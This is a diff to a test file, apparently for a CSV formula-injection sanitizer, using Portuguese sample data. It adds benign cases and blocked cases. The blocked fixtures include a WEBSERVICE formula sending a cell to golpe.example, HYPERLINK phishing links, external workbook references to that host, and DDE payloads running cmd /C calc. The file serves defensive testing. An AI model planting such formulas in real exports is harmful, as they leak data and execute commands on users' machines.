@@ -85,6 +85,11 @@ csv(
   'cliente;obs\nAna;- 2 call(s) sem resposta\nJoão;+ 3 image(s) do produto\nMaria;- 1 CALL(S)\n',
   'atendimento.csv',
 );
+csv(
+  'signed list with fractions and tags',
+  'itens\n- 1/2 dúzia! (promo)\n- pedido #123 (urgente)\n- [promo] leve 3! (oferta)\n',
+  'promo.csv',
+);
 csv('full-width japanese export', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n', 'jp.csv');
 csv(
   'caps bullets',
@@ -437,6 +442,8 @@ bcsv(
 bcsv('full-width W webservice', 'pedido;c\n1;-\uff37EBSERVICE("http://golpe.example/?c="&B2)\n');
 bcsv('tab opening the file', '\t=HYPERLINK("http://golpe.example/login")\n');
 bcsv('en space before the sign', 'pedido;link\n1;\u2002=HYPERLINK("http://golpe.example/login")\n');
+bcsv('unc workbook reference', "pedido;valor\n1;-'\\\\golpe.example\\s\\[x.xlsx]Plan1'!A1\n");
+bcsv('libreoffice web link', "pedido;valor\n1;-'https://golpe.example/x.ods'#$Plan1.A1\n");
 bcsv('space before bracket', 'pedido;link\n1;-HYPERLINK ("http://golpe.example/login")\n');
 bcsv('quoted dde app', "pedido;valor\n1;-'cmd'|' /C calc'!A0\n");
 bcsv('double-quoted dde app', 'pedido;valor\n1;-"cmd"|\' /C calc\'!A0\n');
